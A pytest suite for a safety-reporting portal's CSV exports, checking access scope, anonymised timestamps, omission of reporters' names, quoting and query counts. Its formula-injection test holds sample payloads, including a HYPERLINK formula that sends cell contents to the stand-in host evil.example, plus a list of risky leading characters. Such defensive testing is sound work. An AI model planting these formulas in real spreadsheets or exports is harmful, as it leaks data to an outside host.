"""CSV exports of reports and actions (portal/insights/exports.py): the insights scope, no
reporter's name, anonymous times to the hour, formula injection neutralised, a fixed number
of queries."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from functools import partial

import pytest
from sqlalchemy import select, update

from portal.domain import loop
from portal.extensions import db
from portal.insights import exports
from portal.models import Asset, Category, Location, Report, Site, User
from tests.factories import act, add_action, change, make_user, new_report, today
from tests.factories.reports import PAGE_WHAT, PAGE_WHERE
from tests.statements import counting

RISKY = ("=", "+", "-", "@", "\t", "\r")
RANGE = "from=2024-01&to=2024-03"
IN_RANGE = datetime(2024, 2, 10, 9, 41)  # UTC; 10:41 in Madrid (site A)
REPORTS = f"/insights/export/reports.csv?{RANGE}"
ACTIONS = f"/insights/export/actions.csv?{RANGE}"


# every report of these tests is in the export's range unless `at` says otherwise
submit = partial(new_report, what=PAGE_WHAT, where=PAGE_WHERE, at=IN_RANGE)


def table(response) -> list[dict[str, str]]:
    """The CSV body as rows keyed by header, read back with the csv module."""
    assert response.status_code == 200
    body = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body, newline="")))


def cells(response) -> list[list[str]]:
    body = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body, newline="")))


def refs(rows: list[dict[str, str]], column: str = "Reference") -> list[int]:
    return [int(row[column]) for row in rows]


# --- the response ---


def test_the_reports_file_is_a_streamed_utf8_attachment_with_a_bom(app, client, login, world):
    submit(app, world.location_a, what="Señal de salida tapada por cajas")
    login.as_(world.safety)
    response = client.get(REPORTS)
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="closecall-reports-2024-01-2024-03.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "Señal de salida tapada por cajas".encode() in raw
    assert cells(response)[0] == [str(header) for header, _ in exports.REPORT_COLUMNS]


def test_the_actions_file_names_the_chosen_site(app, client, login, world):
    login.as_(world.admin)
    response = client.get(f"{ACTIONS}&site={world.site_a}")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="closecall-actions-2024-01-2024-03-alpha.csv"'
    )
    assert response.get_data().startswith(b"\xef\xbb\xbf")
    rows = cells(response)
    assert rows == [[str(header) for header, _ in exports.ACTION_COLUMNS]]  # the header alone


@pytest.mark.parametrize("persona", ["admin", "safety", "supervisor_a", "viewer_a"])
def test_every_staff_role_may_export_the_reports_of_its_sites(app, client, login, world, persona):
    mine = submit(app, world.location_a)
    login.as_(getattr(world, persona))
    for url in (REPORTS, ACTIONS):
        assert client.get(url).status_code == 200
    assert mine in refs(table(client.get(REPORTS)))


@pytest.mark.parametrize("url", [REPORTS, ACTIONS])
def test_a_visitor_who_is_not_signed_in_is_sent_to_the_login_page(client, world, url):
    response = client.get(url)
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


# --- the scope ---


def test_a_viewer_of_no_site_gets_the_header_alone(app, client, login, world):
    submit(app, world.location_a)
    with app.app_context():
        lonely = make_user("lonely@test.example", "viewer")
        db.session.commit()
    login.as_(lonely)
    for url, columns in ((REPORTS, exports.REPORT_COLUMNS), (ACTIONS, exports.ACTION_COLUMNS)):
        assert cells(client.get(url)) == [[str(header) for header, _ in columns]]


def test_a_supervisor_of_site_a_never_gets_site_b_rows_even_when_asking_for_b(
    app, client, login, world
):
    ours = submit(app, world.location_a)
    theirs = submit(app, world.location_b)
    ours_action = add_action(app, ours, world.admin, world.supervisor_a)
    add_action(app, theirs, world.admin, world.supervisor_b)
    login.as_(world.supervisor_a)
    for query in ("", f"&site={world.site_b}"):
        reports = table(client.get(REPORTS + query))
        assert refs(reports) == [ours]
        assert {row["Site"] for row in reports} == {"Alpha Plant"}
        actions = table(client.get(ACTIONS + query))
        assert refs(actions, "Action") == [ours_action]
        assert "Bravo Warehouse" not in client.get(ACTIONS + query).get_data(as_text=True)


def test_the_admin_gets_every_site_or_the_one_chosen(app, client, login, world):
    ours = submit(app, world.location_a)
    theirs = submit(app, world.location_b)
    login.as_(world.admin)
    # by reference, and references are drawn at random (portal/models/numbers.py)
    assert refs(table(client.get(REPORTS))) == sorted([ours, theirs])
    assert refs(table(client.get(f"{REPORTS}&site={world.site_b}"))) == [theirs]


def test_months_outside_the_range_are_left_out_by_the_sites_calendar(app, client, login, world):
    before = submit(app, world.location_a, at=datetime(2023, 12, 31, 12, 0))
    first = submit(app, world.location_a, at=datetime(2024, 1, 1, 9, 0))
    last = submit(app, world.location_a, at=datetime(2024, 3, 31, 12, 0))
    # 23:30 UTC on 31 March is already 1 April in Madrid: the site's April, out of range
    madrid_april = submit(app, world.location_a, at=datetime(2024, 3, 31, 23, 30))
    after = submit(app, world.location_a, at=datetime(2024, 4, 2, 12, 0))
    for report in (before, first, last, madrid_april, after):
        add_action(app, report, world.admin, world.supervisor_a)
    login.as_(world.safety)
    reports = sorted(table(client.get(REPORTS)), key=lambda row: row["Month"])
    assert [int(row["Reference"]) for row in reports] == [first, last]
    assert [row["Month"] for row in reports] == ["2024-01", "2024-03"]
    assert refs(table(client.get(ACTIONS))) == [first, last]


# --- what the rows say, and what they never say ---


def test_an_anonymous_report_is_timed_only_to_the_hour_a_named_one_to_the_minute(
    app, client, login, world
):
    anonymous = submit(app, world.location_a, at=datetime(2024, 2, 10, 13, 47))
    named = submit(app, world.location_a, at=datetime(2024, 2, 10, 13, 47), name="Ana Ruiz")
    login.as_(world.safety)
    by_ref = {int(row["Reference"]): row for row in table(client.get(REPORTS))}
    assert by_ref[anonymous]["Submitted"] == "2024-02-10 14:00"  # Madrid, UTC+1 in winter
    assert by_ref[anonymous]["Source"] == "anonymous"
    assert by_ref[named]["Submitted"] == "2024-02-10 14:47"
    assert by_ref[named]["Source"] == "named"


def test_the_reporters_name_and_receipt_hash_are_nowhere_in_either_file(app, client, login, world):
    named = submit(app, world.location_a, name="Zebulon Quarrington", role="contractor")
    add_action(app, named, world.admin, world.supervisor_a)
    with app.app_context():
        receipt_hash = db.session.get(Report, named).receipt_hash
    login.as_(world.admin)
    for url in (REPORTS, ACTIONS):
        text = client.get(url).get_data(as_text=True)
        assert "Zebulon" not in text and "Quarrington" not in text
        assert receipt_hash not in text
    row = table(client.get(REPORTS))[0]
    assert row["Source"] == "named" and row["Reporter role"] == "Contractor"


def test_a_triaged_report_shows_its_triage_fields(app, client, login, world):
    rid = submit(app, world.location_a, potential="He would have lost a hand")
    with app.app_context():
        location_id = db.session.scalar(
            select(Location.id).where(Location.code == world.location_a)
        )
        db.session.add(Asset(location_id=location_id, name="Forklift 7"))
        db.session.commit()
        mechanical = db.session.scalar(select(Category).where(Category.name == "Mechanical"))
        asset = db.session.scalar(select(Asset))
        report = db.session.get(Report, rid)
        safety = db.session.get(User, world.safety.id)
        loop.acknowledge(report, safety, at=datetime(2024, 2, 10, 10, 5))
        loop.classify(
            report, safety, category=mechanical, domain="safety", severity=4, likelihood=3
        )
        loop.assign(report, safety, owner=db.session.get(User, world.supervisor_a.id), asset=asset)
        db.session.commit()
    login.as_(world.viewer_a)
    (row,) = table(client.get(REPORTS))
    assert row["Reference"] == str(rid)
    assert row["Site"] == "Alpha Plant" and row["Location"] == "Dock 1"
    assert row["Where"] == "Dock 1, door 4"
    assert row["Status"] == "Acknowledged"
    assert row["Acknowledged"] == "2024-02-10 11:05"
    assert (row["Category"], row["Domain"]) == ("Mechanical", "Safety")
    assert (row["Severity"], row["Likelihood"], row["Risk"]) == ("4", "3", "12")
    assert row["High-potential"] == "yes"
    assert (row["Owner"], row["Asset"]) == ("sup.a", "Forklift 7")
    assert row["Channel"] == "QR poster"
    assert row["What could have happened"] == "Serious injury or worse"
    assert row["In their words"] == "He would have lost a hand"
    assert row["Quality"].isdigit() and 0 <= int(row["Quality"]) <= 4
    assert row["Fixed"] == row["Closed"] == row["Dismissed reason"] == row["Merged into"] == ""


def test_dismissed_and_merged_reports_are_exported_with_their_status(app, client, login, world):
    kept = submit(app, world.location_a)
    duplicate = submit(app, world.location_a)
    spam = submit(app, world.location_a)
    act(app, duplicate, world.safety, "merge", into=kept)
    act(app, spam, world.safety, "dismiss", reason="spam")
    login.as_(world.safety)
    by_ref = {int(row["Reference"]): row for row in table(client.get(REPORTS))}
    assert by_ref[kept]["Status"] == "New"
    assert (by_ref[duplicate]["Status"], by_ref[duplicate]["Merged into"]) == ("Merged", str(kept))
    assert (by_ref[spam]["Status"], by_ref[spam]["Dismissed reason"]) == ("Dismissed", "Spam")


def test_actions_show_their_steps_people_and_days_overdue(app, client, login, world):
    rid = submit(app, world.location_a)
    site_today = today(app, world.site_a)
    late = add_action(app, rid, world.admin, world.supervisor_a, due_on=site_today - timedelta(3))
    due_today = add_action(app, rid, world.admin, world.supervisor_a, due_on=site_today)
    checked = add_action(
        app, rid, world.admin, world.supervisor_a, days=-5, work_order_ref="WO-1234"
    )
    change(app, checked, world.supervisor_a, "complete", note="guard fitted")
    change(app, checked, world.safety, "verify", note="checked it")
    dropped = add_action(app, rid, world.admin, world.supervisor_a, level="ppe")
    change(app, dropped, world.safety, "cancel", reason="the press was scrapped")
    login.as_(world.viewer_a)
    by_id = {int(row["Action"]): row for row in table(client.get(ACTIONS))}
    assert list(by_id) == [late, due_today, checked, dropped]
    assert by_id[late]["Days overdue"] == "3"
    assert by_id[late]["Due"] == (site_today - timedelta(3)).isoformat()
    assert by_id[late]["Status"] == "Open" and by_id[late]["Owner"] == "sup.a"
    assert by_id[late]["Reference"] == str(rid)
    assert by_id[late]["Report high-potential"] == "no"
    assert by_id[late]["Level of control"] == "Engineering control"
    assert by_id[due_today]["Days overdue"] == ""
    assert by_id[checked]["Days overdue"] == ""  # past due, but done
    assert by_id[checked]["Status"] == "Verified"
    assert (by_id[checked]["Completed by"], by_id[checked]["Verified by"]) == ("sup.a", "safety")
    assert by_id[checked]["Completed"] and by_id[checked]["Verified"]
    assert by_id[checked]["Work order"] == "WO-1234"
    assert by_id[dropped]["Status"] == "Cancelled" and by_id[dropped]["Cancelled"]
    assert by_id[dropped]["Cancel reason"] == "the press was scrapped"
    assert by_id[dropped]["Level of control"] == "PPE"


# --- spreadsheets: formulas and quoting ---

PAYLOADS = {
    "site": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "location": "@SUM(A1)",
    "where": "+1",
    "what": "\t=1",
    "words": "\r=1",
    "action": "-2",
    "cancel": "-1+2",
}


def test_formula_payloads_are_neutralised_in_every_free_text_column(app, client, login, world):
    with app.app_context():
        db.session.execute(update(Site).values(name=PAYLOADS["site"]))
        db.session.execute(update(Location).values(name=PAYLOADS["location"]))
        db.session.commit()
    rid = submit(
        app,
        world.location_a,
        where=PAYLOADS["where"],
        what=PAYLOADS["what"],
        potential=PAYLOADS["words"],
    )
    dropped = add_action(app, rid, world.admin, world.supervisor_a, description=PAYLOADS["action"])
    change(app, dropped, world.safety, "cancel", reason=PAYLOADS["cancel"])
    login.as_(world.safety)

    (report,) = table(client.get(REPORTS))
    assert report["Site"] == "'" + PAYLOADS["site"]
    assert report["Location"] == "'" + PAYLOADS["location"]
    assert report["Where"] == "'" + PAYLOADS["where"]
    assert report["What happened"] == "'" + PAYLOADS["what"]
    assert report["In their words"] == "'" + PAYLOADS["words"]
    (action,) = table(client.get(ACTIONS))
    assert action["Site"] == "'" + PAYLOADS["site"]
    assert action["Location"] == "'" + PAYLOADS["location"]
    assert action["Description"] == "'" + PAYLOADS["action"]
    assert action["Cancel reason"] == "'" + PAYLOADS["cancel"]
    for url in (REPORTS, ACTIONS):
        for line in cells(client.get(url)):
            assert not [cell for cell in line if cell.startswith(RISKY)], line


def test_commas_quotes_and_newlines_round_trip_through_a_csv_reader(app, client, login, world):
    what = 'He shouted "stop!", then the load fell;\nnobody was under it.\r\nÜber-close call'
    where = 'Bay 4, "the cold one"'
    rid = submit(app, world.location_a, what=what, where=where)
    add_action(app, rid, world.admin, world.supervisor_a, description="Fence, sign\nand train")
    login.as_(world.safety)
    (report,) = table(client.get(REPORTS))
    assert (report["What happened"], report["Where"]) == (what, where)
    assert len(report) == len(exports.REPORT_COLUMNS)
    (action,) = table(client.get(ACTIONS))
    assert action["Description"] == "Fence, sign\nand train"
    assert len(action) == len(exports.ACTION_COLUMNS)


# --- streaming in batches, a fixed number of queries ---


def test_rows_are_read_in_id_batches_without_loss_or_repeats(
    app, client, login, world, monkeypatch
):
    made = [submit(app, world.location_a) for _ in range(5)]
    actions = [add_action(app, rid, world.admin, world.supervisor_a) for rid in made]
    monkeypatch.setattr(exports, "BATCH", 2)
    login.as_(world.safety)
    assert refs(table(client.get(REPORTS))) == sorted(made)
    assert refs(table(client.get(ACTIONS)), "Action") == actions


def _statements(app, client, url: str) -> int:
    with counting(app) as statements:
        response = client.get(url)
        assert response.status_code == 200
        response.get_data()  # the rows are read while the body streams
    return len(statements)


def _fill(app, world, how_many: int) -> None:
    """Reports at both sites, triaged and assigned, each with an action done by one person
    and verified by another: every joined name is there to be lazily loaded, if it were."""
    with app.app_context():
        category = db.session.scalar(select(Category).where(Category.name == "Equipment"))
        category_id = category.id
    for index in range(how_many):
        code = world.location_a if index % 2 else world.location_b
        persona = world.supervisor_a if index % 2 else world.supervisor_b
        rid = submit(app, code, name=f"Reporter {index}" if index % 3 else None)
        with app.app_context():
            report = db.session.get(Report, rid)
            actor = db.session.get(User, world.admin.id)
            category = db.session.get(Category, category_id)
            loop.classify(
                report, actor, category=category, domain="safety", severity=3, likelihood=2
            )
            loop.assign(report, actor, owner=db.session.get(User, persona.id))
            db.session.commit()
        aid = add_action(app, rid, world.admin, persona)
        change(app, aid, persona, "complete", note="done")
        change(app, aid, world.admin, "verify", note="checked")


@pytest.mark.parametrize("url", [REPORTS, ACTIONS], ids=["reports", "actions"])
def test_the_export_runs_the_same_few_queries_for_3_or_30_reports(app, client, login, world, url):
    login.as_(world.admin)
    counts, lengths = [], []
    for how_many in (3, 27):
        _fill(app, world, how_many)
        client.get(url)  # warm up
        counts.append(_statements(app, client, url))
        lengths.append(len(table(client.get(url))))
    assert lengths == [3, 30]
    assert counts[0] == counts[1]
    # the user, the sites, one batch of rows (and SQLite's BEGIN around each read)
    assert counts[0] <= 5, counts
